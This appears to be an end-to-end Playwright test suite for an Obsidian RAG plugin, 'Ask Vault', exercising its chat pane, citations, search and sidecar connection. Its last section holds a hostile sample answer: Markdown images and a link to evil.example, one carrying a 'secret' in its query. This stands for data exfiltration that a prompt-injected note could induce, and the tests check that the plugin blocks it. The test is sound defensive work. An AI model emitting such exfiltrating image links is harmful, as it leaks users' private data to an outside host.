// End-to-end: the built dist/main.js in headless Chromium (through the `obsidian` shim), talking to the REAL
// sidecar (`askvault serve`) across origins, with the fake Ollama server as its only stand-in.
// Driven like a person: open the pane, ask, watch it stream, hover and click citations, open the inspector,
// stop an answer, search, reindex, lose the sidecar and get it back.
import assert from "node:assert/strict";
import { copyFile, mkdir, readFile } from "node:fs/promises";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { chromium } from "playwright-core";
import {
	CHROMIUM,
	copyVault,
	freePort,
	Proc,
	REPO_DIR,
	removeDir,
	run,
	SCREENSHOTS,
	startStaticServer,
	tempDir,
	VENV_DIR,
	waitFor,
} from "./lib.mjs";

const ANSWER =
	"Postgres listens on port 5433 on the host [1]. Backups of the database run nightly at 02:00 and are kept " +
	"for thirty days [2]. The container maps the port from 5432 inside, and the password lives in the password " +
	"manager [1]. Restores are tested every quarter on a scratch container [2].";
const LAST_WORD = "container [2].";
// What a hostile note could get a model to write: remote images (one carrying a secret in its query, one whose
// alt text spans several streamed tokens) and an external link.
const HOSTILE =
	"Postgres listens on port 5433 [1]. ![x](https://evil.example/p.png?q=secret) A diagram: " +
	"![a diagram of the port map](https://evil.example/d.png) and [site](https://evil.example) say more [2].";
const HOSTILE_SHOWN =
	"Postgres listens on port 5433 [1]. [image removed: evil.example] A diagram: [image removed: evil.example] " +
	"and site (https://evil.example) say more [2].";
const PYTHON = path.join(VENV_DIR, "bin", "python");
const ASKVAULT = path.join(VENV_DIR, "bin", "askvault");

const env = {};

function sidecarArgs({ dataDir = env.dataDir, port = env.port, ollamaUrl = env.ollamaUrl } = {}) {
	return [
		"serve",
		"--vault",
		env.vault,
		"--data-dir",
		dataDir,
		"--port",
		String(port),
		"--ollama-url",
		ollamaUrl,
		"--embed-model",
		"all-minilm",
		"--chat-model",
		"llama3.2:3b",
		"--allow-origin",
		env.static.origin,
	];
}

async function startSidecar(options = {}, name = "sidecar") {
	const proc = new Proc(name, ASKVAULT, sidecarArgs(options), { logDir: env.tmp });
	const url = `http://127.0.0.1:${options.port ?? env.port}`;
	await waitFor(
		"the sidecar's /api/health",
		async () => {
			if (!proc.running) throw new Error(`askvault serve exited:\n${proc.tail()}`);
			const res = await fetch(`${url}/api/health`);
			return res.ok && (await res.json()).ok === true;
		},
		60_000,
	);
	return proc;
}

async function sidecarStatus(url = env.sidecarUrl, token = env.token) {
	const res = await fetch(`${url}/api/status`, { headers: { Authorization: `Bearer ${token}` } });
	if (!res.ok) throw new Error(`status ${res.status}`);
	return res.json();
}

const harness = (page, fn, arg) => page.evaluate(fn, arg);

async function shot(page, name) {
	await page.screenshot({ path: path.join(SCREENSHOTS, `${name}.png`) });
}

async function statusText(page) {
	return page.locator(".ask-vault-status").textContent();
}

/** Types a question into the pane and sends it with Enter. */
async function ask(page, question) {
	await page.fill(".ask-vault-input", question);
	await page.press(".ask-vault-input", "Enter");
}

async function lastTurn(page) {
	return harness(page, () => {
		const turns = window.askVaultHarness.view()?.state.turns ?? [];
		return turns[turns.length - 1] ?? null;
	});
}

async function waitTurn(page, statuses, timeoutMs = 30_000) {
	return waitFor(`the answer to reach ${statuses.join("/")}`, async () => {
		const turn = await lastTurn(page);
		return turn && statuses.includes(turn.status) ? turn : null;
	}, timeoutMs);
}

before(async () => {
	env.tmp = await tempDir("ask-vault-e2e-");
	await mkdir(SCREENSHOTS, { recursive: true });
	env.vault = await copyVault(env.tmp);
	env.dataDir = path.join(env.tmp, "data");
	env.static = await startStaticServer();
	env.ollama = new Proc(
		"fake-ollama",
		PYTHON,
		["-m", "tests.fakes.ollama_server", "--port", "0", "--token-delay", "0.05", "--answer", ANSWER],
		{ cwd: REPO_DIR, logDir: env.tmp },
	);
	env.ollamaUrl = (await env.ollama.waitForLine(/^READY (\S+)/))[1];
	env.port = await freePort();
	env.sidecarUrl = `http://127.0.0.1:${env.port}`;
	env.sidecar = await startSidecar();
	const tokenOut = await run(ASKVAULT, ["token", "--vault", env.vault, "--data-dir", env.dataDir]);
	env.token = tokenOut.trim().split("\n").pop().trim();
	assert.match(env.token, /^\S{16,}$/, "askvault token printed a token");
	await waitFor(
		"the first index run",
		async () => {
			const s = await sidecarStatus();
			return s.index.state === "idle" && s.vault.notes >= 5 ? s : null;
		},
		60_000,
	);
	env.browser = await chromium.launchPersistentContext(path.join(env.tmp, "profile"), {
		executablePath: CHROMIUM,
		headless: true,
		viewport: { width: 1280, height: 860 },
		args: [
			"--headless",
			"--no-sandbox",
			"--disable-gpu",
			"--no-first-run",
			"--disable-background-networking",
			"--disable-component-update",
			"--disable-sync",
			"--disable-dev-shm-usage",
		],
	});
	env.pageErrors = [];
	env.page = env.browser.pages()[0] ?? (await env.browser.newPage());
	env.page.on("pageerror", (e) => env.pageErrors.push(String(e)));
	await env.page.goto(`${env.static.origin}/`);
	await harness(env.page, (o) => window.askVaultHarness.boot(o), { sidecarUrl: env.sidecarUrl, token: env.token });
});

after(async () => {
	await env.browser?.close().catch(() => undefined);
	await env.sidecar?.stop();
	await env.ollama?.stop();
	env.static?.server.close();
	if (process.exitCode && env.tmp) {
		console.error(`sidecar log tail:\n${env.sidecar?.tail(30) ?? ""}`);
	}
	await removeDir(env.tmp);
});

describe("the plugin's desktop code against the real sidecar (Node)", () => {
	it("discovery finds the running sidecar and its token from the vault path alone", async () => {
		const { discover } = await import("./.build/desktop.mjs");
		assert.deepEqual(await discover(env.vault, env.dataDir), { url: env.sidecarUrl, token: env.token });
	});

	it("auto-start: the plugin's spawn and arguments run `askvault serve`, found by discovery, stopped cleanly", async () => {
		const { discover, parseSettings, serveArgs, startSidecar } = await import("./.build/desktop.mjs");
		const port = await freePort();
		const dataDir = path.join(env.tmp, "data-autostart");
		const settings = parseSettings({
			sidecarUrl: `http://127.0.0.1:${port}`,
			dataDir,
			embedModel: "all-minilm",
			chatModel: "llama3.2:3b",
			exclusions: ["Recipes/"],
		});
		process.env.OLLAMA_HOST = env.ollamaUrl; // Obsidian users run Ollama at its default URL
		const child = await startSidecar(ASKVAULT, serveArgs(settings, env.vault));
		try {
			const found = await waitFor("discovery of the spawned sidecar", async () => {
				const d = await discover(env.vault, dataDir);
				return d.url && d.token ? d : null;
			}, 60_000);
			assert.equal(found.url, `http://127.0.0.1:${port}`);
			const status = await waitFor("its first index run", async () => {
				const res = await fetch(`${found.url}/api/status`, { headers: { Authorization: `Bearer ${found.token}` } });
				const body = await res.json();
				return body.index.state === "idle" && body.vault.notes > 0 ? body : null;
			}, 60_000);
			assert.equal(status.vault.notes, 4, "Recipes/ was excluded by --exclude");
			assert.equal(status.models.embed.name, "all-minilm");
			assert.equal(status.models.chat.name, "llama3.2:3b");
		} finally {
			child.stop();
		}
		const exit = await child.exited;
		assert.ok(exit.code === 0 || exit.signal === "SIGTERM", JSON.stringify(exit));
		assert.equal((await discover(env.vault, dataDir)).url, null, "no live sidecar.json after stop");
	});
});

describe("Ask Vault in Chromium against the real sidecar", () => {
	it("loads dist/main.js through require('obsidian') and connects (status bar from /api/events)", async () => {
		const page = env.page;
		const wiring = await harness(page, () => {
			const app = window.askVaultHarness.app;
			return {
				commands: [...app.commands.values()].map((c) => ({ id: c.id, name: c.name, hotkeys: c.hotkeys ?? null })),
				views: [...app.viewRegistry.keys()],
				hover: app.hoverSources.get("ask-vault-chat") ?? null,
				tabs: app.settingTabs.length,
			};
		});
		assert.deepEqual(
			wiring.commands.map((c) => c.id).sort(),
			["ask", "ask-about-note", "ask-about-selection", "open-chat", "reindex", "search"].map((id) => `ask-vault:${id}`).sort(),
		);
		assert.ok(wiring.commands.every((c) => c.hotkeys === null), "no default hotkeys");
		assert.deepEqual(wiring.views, ["ask-vault-chat"]);
		assert.deepEqual(wiring.hover, { display: "Ask Vault", defaultMod: false });
		assert.equal(wiring.tabs, 1);
		await waitFor("the status bar to say ready", async () => /^Ask Vault: (ready|indexing)/.test(await statusText(page)));
	});

	it("opens the pane from the ribbon, and the answer streams in as it is written", async () => {
		const page = env.page;
		await page.click(".side-dock-ribbon-action[aria-label='Open chat']");
		await page.waitForSelector(".ask-vault-view .ask-vault-input");
		await harness(page, () => {
			window.stopWatching = window.askVaultHarness.watchAnswers();
		});
		await ask(page, "Which port does Postgres listen on?");
		await page.waitForSelector(".ask-vault-send.mod-warning"); // the Send button became Stop
		const turn = await waitTurn(page, ["done", "error"]);
		assert.equal(turn.status, "done", `answer failed: ${JSON.stringify(turn.error)}`);
		assert.equal(turn.text, ANSWER);
		const seen = await harness(page, () => window.stopWatching());
		assert.ok(seen.length >= 4, `several renders while streaming (saw ${seen.length})`);
		assert.ok(seen[0].length < seen[seen.length - 1].length, "early renders are shorter than the last");
		const renders = await harness(page, () => window.askVaultHarness.view().renderCounts());
		assert.ok(renders[0] >= 4, `MarkdownStream rendered ${renders[0]} times`);
		assert.equal(await page.locator(".ask-vault-send").textContent(), "Send");
		const body = await page.locator(".ask-vault-answer-body").last().textContent();
		assert.ok(body.includes("Postgres listens on port 5433"), body);
		const req = await harness(page, () => window.askVaultHarness.requests.filter((r) => r.url.endsWith("/api/ask")));
		assert.equal(req.length, 1);
		assert.deepEqual(JSON.parse(req[0].body), { question: "Which port does Postgres listen on?", k: 8 });
	});

	it("lists the sources sent, and each [n] is a citation to its note and heading", async () => {
		const page = env.page;
		const turn = await lastTurn(page);
		const sent = turn.retrieval.sources.filter((s) => s.sent).sort((a, b) => a.n - b.n);
		assert.ok(sent.length >= 2, "at least two sources were sent");
		const listed = await page.locator(".ask-vault-source-list li").allTextContents();
		assert.equal(listed.length, sent.length);
		sent.forEach((s, i) => assert.ok(listed[i].startsWith(`[${s.n}] ${s.path}`), listed[i]));
		const cites = await page.locator(".ask-vault-answer-body a.ask-vault-citation").evaluateAll((els) =>
			els.map((e) => ({ n: e.getAttribute("data-ask-vault-n"), href: e.getAttribute("data-href"), text: e.textContent })),
		);
		assert.deepEqual(
			cites.map((c) => c.text),
			["[1]", "[2]", "[1]", "[2]"],
		);
		for (const c of cites) {
			const s = sent.find((x) => String(x.n) === c.n);
			assert.equal(c.href, `${s.path}#${s.heading_path[s.heading_path.length - 1]}`);
		}
	});

	it("hovering a citation asks Obsidian for a Page preview at the heading and shows the fallback card", async () => {
		const page = env.page;
		const turn = await lastTurn(page);
		const source = turn.retrieval.sources.find((s) => s.n === 1);
		const heading = source.heading_path[source.heading_path.length - 1];
		// The cited heading really is a heading of that note in the vault.
		const note = await readFile(path.join(env.vault, source.path), "utf8");
		assert.match(note, new RegExp(`^#+ ${heading}$`, "m"));
		assert.equal(source.path, "Homelab/Postgres.md");

		await page.hover(".ask-vault-answer-body a.ask-vault-citation >> nth=0");
		const payload = await waitFor("a hover-link event", () =>
			harness(page, () => {
				const h = window.askVaultHarness;
				const p = h.records.hoverLinks[h.records.hoverLinks.length - 1];
				return p
					? {
							source: p.source,
							linktext: p.linktext,
							sourcePath: p.sourcePath,
							event: p.event.type,
							parentIsView: p.hoverParent === h.view(),
							target: p.targetEl.textContent,
						}
					: null;
			}),
		);
		assert.deepEqual(payload, {
			source: "ask-vault-chat",
			linktext: `Homelab/Postgres.md#${heading}`,
			sourcePath: "",
			event: "mouseover",
			parentIsView: true,
			target: "[1]",
		});
		const card = page.locator(".ask-vault-hover-card");
		await card.waitFor();
		const trail = await card.locator(".ask-vault-hover-trail").textContent();
		assert.equal(trail, `[1] ${[source.path, ...source.heading_path].join(" › ")}`);
		const ranks = await card.locator(".ask-vault-hover-ranks").textContent();
		assert.ok(ranks.includes(`Dense rank ${source.dense_rank ?? "–"}`), ranks);
		assert.ok(ranks.includes(`keyword rank ${source.keyword_rank ?? "–"}`), ranks);
		assert.ok((await card.locator(".ask-vault-hover-text").textContent()).includes("5433"));
		await shot(page, "hover-card");
	});

	it("clicking a citation opens the note at the heading (Ctrl-click: a new tab)", async () => {
		const page = env.page;
		const turn = await lastTurn(page);
		const s2 = turn.retrieval.sources.find((s) => s.n === 2);
		const link = `${s2.path}#${s2.heading_path[s2.heading_path.length - 1]}`;
		await page.click(".ask-vault-answer-body a.ask-vault-citation >> nth=1");
		await page.click(".ask-vault-answer-body a.ask-vault-citation >> nth=1", { modifiers: ["Control"] });
		const opened = await harness(page, () => window.askVaultHarness.records.opened.slice(-2));
		assert.deepEqual(opened, [
			{ linktext: link, sourcePath: "", newLeaf: false, state: null },
			{ linktext: link, sourcePath: "", newLeaf: "tab", state: null },
		]);
		await page.mouse.move(5, 5);
	});

	it("the inspector shows the fused ranking, the cut, query terms, prompt and timings", async () => {
		const page = env.page;
		const turn = await lastTurn(page);
		await page.click(".ask-vault-inspector > summary");
		const rows = await page.locator(".ask-vault-ranking tbody tr:not(.ask-vault-cut)").evaluateAll((trs) =>
			trs.map((tr) => Array.from(tr.querySelectorAll("td")).map((td) => td.textContent)),
		);
		assert.equal(rows.length, turn.retrieval.sources.length);
		turn.retrieval.sources.forEach((s, i) => {
			assert.equal(rows[i][2], s.dense_rank === null ? "–" : String(s.dense_rank));
			assert.equal(rows[i][3], s.keyword_rank === null ? "–" : String(s.keyword_rank));
			assert.equal(rows[i][4], s.fused_score.toFixed(4));
		});
		const cut = await page.locator(".ask-vault-ranking .ask-vault-cut").textContent();
		assert.ok(/Sent to the model|All of these were sent/.test(cut), cut);
		const terms = await page.locator(".ask-vault-terms dt").allTextContents();
		assert.deepEqual(terms, turn.retrieval.terms.map((t) => t.term));
		const timings = await page.locator(".ask-vault-timings dd").allTextContents();
		assert.ok(timings.some((t) => /\d/.test(t)), `timings: ${timings}`);
		const prompt = await page.locator(".ask-vault-prompt-content").allTextContents();
		assert.deepEqual(prompt, turn.retrieval.prompt.map((m) => m.content));
		await page.locator(".ask-vault-messages").evaluate((el) => (el.scrollTop = 0));
		await shot(page, "chat-inspector");
		// For the README: the pane alone (right sidebar and its status bar), answer, citations and inspector open.
		const pane = await page.locator(".workspace-split.mod-right-split").boundingBox();
		const viewport = page.viewportSize();
		await page.screenshot({
			path: path.join(SCREENSHOTS, "pane.png"),
			clip: { x: pane.x, y: 0, width: pane.width, height: viewport.height },
		});
		await copyFile(path.join(SCREENSHOTS, "pane.png"), path.join(REPO_DIR, "docs", "screenshot-chat.png"));
	});

	it("a follow-up sends the conversation so far", async () => {
		const page = env.page;
		const first = await lastTurn(page);
		await ask(page, "And when do its backups run?");
		const turn = await waitTurn(page, ["done", "error"]);
		assert.equal(turn.status, "done", JSON.stringify(turn.error));
		const asks = await harness(page, () => window.askVaultHarness.requests.filter((r) => r.url.endsWith("/api/ask")));
		assert.deepEqual(JSON.parse(asks[asks.length - 1].body).history, [
			{ role: "user", content: "Which port does Postgres listen on?" },
			{ role: "assistant", content: first.text },
		]);
		if (turn.retrieval.rewritten) {
			const query = await page.locator(".ask-vault-query").last().textContent();
			assert.ok(query.includes(`Rewritten query: ${turn.retrieval.query}`), query);
		}
	});

	it("Stop aborts the stream mid-way and keeps the partial answer", async () => {
		const page = env.page;
		await ask(page, "When are the backups of the database made?");
		await waitFor("a few words of the answer", async () => {
			const turn = await lastTurn(page);
			return turn.text.split(" ").length >= 6;
		});
		await page.click(".ask-vault-send");
		const turn = await waitTurn(page, ["stopped"], 10_000);
		assert.ok(turn.text.length > 0 && turn.text.length < ANSWER.length, `partial: ${turn.text}`);
		assert.ok(!turn.text.includes(LAST_WORD));
		await waitFor("the partial answer on screen", async () =>
			(await page.locator(".ask-vault-answer-body").last().textContent()).startsWith("Postgres listens"),
		);
		assert.equal(await page.locator(".ask-vault-answer-status").last().textContent(), "Stopped.");
		assert.equal(await page.locator(".ask-vault-send").textContent(), "Send");
		await shot(page, "stopped");
		// The sidecar is fine afterwards: the next question is answered in full.
		await ask(page, "Which port does Postgres listen on?");
		const next = await waitTurn(page, ["done", "error"]);
		assert.equal(next.status, "done", JSON.stringify(next.error));
	});

	it("Search vault lists hybrid results and opens the chosen one at its heading", async () => {
		const page = env.page;
		await harness(page, () => window.askVaultHarness.command("search"));
		await page.fill(".prompt-input", "postgres port");
		await page.waitForSelector(".suggestion-item");
		const trails = await page.locator(".suggestion-item .ask-vault-search-trail").allTextContents();
		assert.ok(trails.some((t) => t.startsWith("Homelab/Postgres.md")), trails.join(" | "));
		await shot(page, "search");
		const parts = trails[0].split(" › ");
		await page.click(".suggestion-item >> nth=0");
		const opened = await harness(page, () => window.askVaultHarness.records.opened.at(-1));
		assert.equal(opened.linktext, parts.length > 1 ? `${parts[0]}#${parts[parts.length - 1]}` : parts[0]);
	});

	it("Ask about current note scopes retrieval to the note's folder", async () => {
		const page = env.page;
		await harness(page, () => {
			const { app, obsidian } = window.askVaultHarness;
			app.workspace.activeFile = Object.assign(new obsidian.TFile(), { path: "Homelab/Backups.md", basename: "Backups" });
			return window.askVaultHarness.command("ask-about-note");
		});
		await page.fill(".modal .ask-vault-input", "How often are restores tested?");
		await page.click(".modal button.mod-cta");
		const turn = await waitTurn(page, ["done", "error"]);
		assert.equal(turn.status, "done", JSON.stringify(turn.error));
		const asks = await harness(page, () => window.askVaultHarness.requests.filter((r) => r.url.endsWith("/api/ask")));
		const body = JSON.parse(asks[asks.length - 1].body);
		assert.equal(body.question, 'About the note "Backups": How often are restores tested?');
		assert.deepEqual(body.filters, { folder: "Homelab" });
		assert.ok(turn.retrieval.sources.every((s) => s.path.startsWith("Homelab/")), "only Homelab notes retrieved");
	});

	it("Reindex vault starts a run (or says one is running)", async () => {
		const page = env.page;
		await harness(page, () => window.askVaultHarness.command("reindex"));
		await waitFor("a reindex notice", () =>
			harness(page, () =>
				window.askVaultHarness.records.notices.some((n) => n === "Ask Vault: reindexing started." || n === "Ask Vault is already indexing."),
			),
		);
		await waitFor("the index to be idle again", async () => (await sidecarStatus()).index.state === "idle", 60_000);
	});

	it("sidecar down: a readable error with Retry; back up: reconnects and Retry answers", async () => {
		const page = env.page;
		await env.sidecar.stop();
		await waitFor("the status bar to say disconnected", async () => (await statusText(page)) === "Ask Vault: disconnected", 30_000);
		await ask(page, "Is anybody there?");
		const turn = await waitTurn(page, ["error"]);
		assert.equal(turn.error.code, "unreachable");
		const box = page.locator(".ask-vault-error").last();
		const message = await box.locator(".ask-vault-error-message").textContent();
		assert.ok(message.startsWith(`Cannot reach the Ask Vault sidecar at ${env.sidecarUrl}`), message);
		assert.equal(await box.locator("button.ask-vault-retry").textContent(), "Retry");
		await shot(page, "sidecar-down");

		env.sidecar = await startSidecar();
		await waitFor("the status bar to reconnect", async () => /^Ask Vault: (ready|indexing)/.test(await statusText(page)), 45_000);
		await box.locator("button.ask-vault-retry").click();
		const retried = await waitTurn(page, ["done", "error"]);
		assert.equal(retried.status, "done", JSON.stringify(retried.error));
		assert.equal(retried.text, ANSWER);
		assert.equal(await page.locator(".ask-vault-error").count(), 0);
	});

	it("a page from an origin the sidecar does not allow is refused (CORS)", async () => {
		const other = await env.browser.newPage();
		try {
			await other.goto(`http://localhost:${env.static.port}/`);
			await harness(other, (o) => window.askVaultHarness.boot(o), { sidecarUrl: env.sidecarUrl, token: env.token });
			await harness(other, () => window.askVaultHarness.command("open-chat"));
			await other.waitForSelector(".ask-vault-input");
			await ask(other, "Which port does Postgres listen on?");
			const turn = await waitTurn(other, ["error", "done"]);
			assert.equal(turn.status, "error");
			assert.equal(turn.error.code, "unreachable");
			assert.equal(await statusText(other), "Ask Vault: disconnected");
		} finally {
			await other.close();
		}
	});

	it("unloading the plugin removes its view, commands and status bar item", async () => {
		const page = env.page;
		const after = await harness(page, () => {
			const h = window.askVaultHarness;
			h.unload();
			return {
				views: h.app.workspace.getLeavesOfType("ask-vault-chat").length,
				commands: h.app.commands.size,
				status: document.querySelectorAll(".ask-vault-status").length,
			};
		});
		assert.deepEqual(after, { views: 0, commands: 0, status: 0 });
		assert.deepEqual(env.pageErrors, [], "no uncaught errors in the page");
	});
});

describe("a hostile answer: remote images and links never load, streaming or not", () => {
	const hostile = {};

	before(async () => {
		// A second fake Ollama whose answer is hostile, behind a second sidecar on the same vault (own data folder).
		hostile.ollama = new Proc(
			"fake-ollama-hostile",
			PYTHON,
			["-m", "tests.fakes.ollama_server", "--port", "0", "--token-delay", "0.05", "--answer", HOSTILE],
			{ cwd: REPO_DIR, logDir: env.tmp },
		);
		const ollamaUrl = (await hostile.ollama.waitForLine(/^READY (\S+)/))[1];
		const dataDir = path.join(env.tmp, "data-hostile");
		const port = await freePort();
		hostile.url = `http://127.0.0.1:${port}`;
		hostile.sidecar = await startSidecar({ dataDir, port, ollamaUrl }, "sidecar-hostile");
		hostile.token = (await run(ASKVAULT, ["token", "--vault", env.vault, "--data-dir", dataDir])).trim().split("\n").pop().trim();
		await waitFor(
			"the hostile sidecar's first index run",
			async () => {
				const s = await sidecarStatus(hostile.url, hostile.token);
				return s.index.state === "idle" && s.vault.notes >= 5;
			},
			60_000,
		);
		hostile.requests = [];
		hostile.errors = [];
		hostile.page = await env.browser.newPage();
		hostile.page.on("pageerror", (e) => hostile.errors.push(String(e)));
		// Any request for the attacker's host is recorded and refused (the sandbox has no network anyway).
		await hostile.page.route(/evil\.example/, (route) => {
			hostile.requests.push(route.request().url());
			return route.abort();
		});
		await hostile.page.goto(`${env.static.origin}/`);
		await harness(hostile.page, (o) => window.askVaultHarness.boot(o), { sidecarUrl: hostile.url, token: hostile.token });
		await harness(hostile.page, () => window.askVaultHarness.command("open-chat"));
		await hostile.page.waitForSelector(".ask-vault-view .ask-vault-input");
	});

	after(async () => {
		await hostile.page?.close().catch(() => undefined);
		await hostile.sidecar?.stop();
		await hostile.ollama?.stop();
	});

	it("the page's renderer does load a raw remote image (so the checks below would see one)", async () => {
		const srcs = await harness(hostile.page, () => window.askVaultHarness.imagesIn("![control](about:blank#control)"));
		assert.deepEqual(srcs, ["about:blank#control"]);
	});

	it("streams the answer inert: no <img>, no request to the host, the neutralised form and a notice", async () => {
		const page = hostile.page;
		await harness(page, () => {
			window.stopImages = window.askVaultHarness.watchImages();
		});
		await ask(page, "Which port does Postgres listen on?");
		// Look at the pane again and again while the words arrive.
		const seen = [];
		let turn = null;
		await waitFor(
			"the hostile answer to finish",
			async () => {
				const snapshot = await harness(page, () => {
					const turns = window.askVaultHarness.view()?.state.turns ?? [];
					const bodies = document.querySelectorAll(".ask-vault-answer-body");
					return {
						turn: turns[turns.length - 1] ?? null,
						body: bodies[bodies.length - 1]?.textContent ?? "",
						images: Array.from(document.querySelectorAll("img")).map((img) => img.getAttribute("src")),
					};
				});
				seen.push({ status: snapshot.turn?.status, body: snapshot.body, images: snapshot.images });
				turn = snapshot.turn;
				return turn && ["done", "error"].includes(turn.status) ? turn : null;
			},
			30_000,
			25,
		);
		assert.equal(turn.status, "done", JSON.stringify(turn.error));
		const streaming = seen.filter((s) => s.status === "streaming" && s.body !== "");
		assert.ok(streaming.length >= 10, `looked ${streaming.length} times while streaming`);
		assert.ok(new Set(streaming.map((s) => s.body)).size >= 5, "the answer grew while it was watched");
		assert.deepEqual(seen.flatMap((s) => s.images), [], "no <img> at any look");
		for (const { body } of seen) {
			assert.ok(!body.includes("![") && !body.includes("](") && !body.includes("secret"), `raw Markdown shown: ${body}`);
		}
		assert.ok(
			streaming.some((s) => s.body.includes("[image removed: evil.example]")),
			"the neutralised form showed while streaming",
		);

		await waitFor("the final answer on screen", async () => (await page.locator(".ask-vault-answer-body").last().textContent()) === HOSTILE_SHOWN);
		assert.deepEqual(turn.done.neutralised, [
			{ kind: "image", target: "evil.example" },
			{ kind: "image", target: "evil.example" },
			{ kind: "link", target: "evil.example" },
		]);
		assert.equal(turn.done.sanitized_answer, true);
		const body = page.locator(".ask-vault-answer-body").last();
		assert.deepEqual(await body.locator("code").allTextContents(), ["https://evil.example"]);
		assert.equal(await body.locator("img, a[href*='evil']").count(), 0);
		assert.deepEqual(await body.locator("a.ask-vault-citation").allTextContents(), ["[1]", "[2]"]);
		const notice = page.locator(".ask-vault-answer-notice").last();
		assert.equal(await notice.textContent(), "Made inert: 2 remote images (evil.example), 1 external link (evil.example).");
		assert.ok(await notice.isVisible());
		await shot(page, "hostile-answer");

		const images = await harness(page, () => window.stopImages());
		assert.deepEqual(images, [], "no <img> ever entered the page");
		assert.deepEqual(hostile.requests, [], "nothing asked evil.example for anything");
		assert.deepEqual(hostile.errors, [], "no uncaught errors in the page");
	});
});
